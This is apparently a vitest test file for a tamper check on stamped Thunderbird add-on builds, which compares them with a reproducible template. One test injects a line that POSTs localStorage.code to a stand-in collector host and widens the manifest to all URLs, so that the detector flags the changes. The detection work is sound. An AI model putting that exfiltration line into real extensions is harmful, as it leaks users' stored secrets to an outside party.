// `sealcode addon check`: a stamped dedicated build compared with the template, which is
// built reproducibly; any change beyond the stamp is named.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { beforeAll, describe, expect, it } from 'vitest';
import { buildXpi } from '../../thunderbird-addon/build.js';
import { stampDedicatedXpi } from '../../thunderbird-addon/stamp.js';
import { checkStampedXpi } from '../../cli/addon-check.js';
import { makeWorld } from '../support/world.js';
import { ensureBuilt, sealcode } from '../cli/harness.js';

let template: Uint8Array;
let stamped: Uint8Array;
const w = makeWorld();

const rezip = (xpi: Uint8Array, change: (files: Record<string, Uint8Array>) => void): Uint8Array => {
  const files = unzipSync(xpi);
  change(files);
  return zipSync(files);
};

beforeAll(async () => {
  template = await buildXpi({ flavour: 'dedicated' });
  stamped = stampDedicatedXpi(template, w.D1, { updateUrl: 'https://d.example.test/u.json' });
});

describe('the status refresh period', () => {
  const periodIn = (xpi: Uint8Array): string | undefined => /REFRESH_MINUTES = ([\d.]+)/.exec(strFromU8(unzipSync(xpi)['background.js']!))?.[1];

  it('is hourly in a shipped build and cannot be set there; only a test build may shorten it', async () => {
    expect(periodIn(template)).toBe('60');
    await expect(buildXpi({ flavour: 'dedicated', statusRefreshMinutes: 0.1 })).rejects.toThrow(/test builds only/);
    expect(periodIn(await buildXpi({ flavour: 'dedicated', test: true }))).toBe('60');
    expect(periodIn(await buildXpi({ flavour: 'purchaser', test: true, statusRefreshMinutes: 0.1 }))).toBe('0.1');
  });
});

describe('addon check', () => {
  it('the template builds to the same bytes twice, so anyone can rebuild what the seller published', async () => {
    expect(Buffer.compare(Buffer.from(await buildXpi({ flavour: 'dedicated' })), Buffer.from(template))).toBe(0);
  });

  it('passes a stamped build, which differs only by its profile, name, id and update URL', () => {
    const r = checkStampedXpi(stamped, template);
    expect(r).toMatchObject({ ok: true, differences: [] });
    expect(r.same).toBe(Object.keys(unzipSync(template)).length);
  });

  it('names every change beyond the stamp: a changed script, an added file, a widened manifest, no profile', () => {
    const js = Object.keys(unzipSync(template)).find((n) => n.endsWith('.js'))!;
    const changed = rezip(stamped, (f) => {
      f[js] = strToU8(strFromU8(f[js]!) + '\nfetch("https://collector.example.test/", { method: "POST", body: localStorage.code });');
      f['extra.js'] = strToU8('1');
      const m = JSON.parse(strFromU8(f['manifest.json']!));
      m.permissions.push('<all_urls>');
      f['manifest.json'] = strToU8(JSON.stringify(m));
    });
    expect(checkStampedXpi(changed, template).differences).toEqual([`${js} (changed)`, 'extra.js (added)', 'manifest.json (changed beyond name, id and update URL)']);
    expect(checkStampedXpi(template, template).differences).toEqual(['profile.json (missing: not a stamped build)']);
    expect(() => checkStampedXpi(stamped, stamped)).toThrow(/not the template/);
  });

  it('answers from the CLI: exit 0 for a faithful build, 3 naming the change otherwise', async () => {
    ensureBuilt();
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'sealcode-check-'));
    try {
      fs.writeFileSync(path.join(dir, 't.xpi'), template);
      fs.writeFileSync(path.join(dir, 's.xpi'), stamped);
      fs.writeFileSync(path.join(dir, 'bad.xpi'), rezip(stamped, (f) => void (f['extra.js'] = strToU8('1'))));
      const ok = await sealcode(['addon', 'check', 's.xpi', '--template', 't.xpi'], { cwd: dir });
      expect(ok.code).toBe(0);
      const bad = await sealcode(['addon', 'check', 'bad.xpi', '--template', 't.xpi'], { cwd: dir });
      expect(bad.code).toBe(3);
      expect(bad.stdout).toMatch(/extra\.js \(added\)/);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  }, 120_000);
});
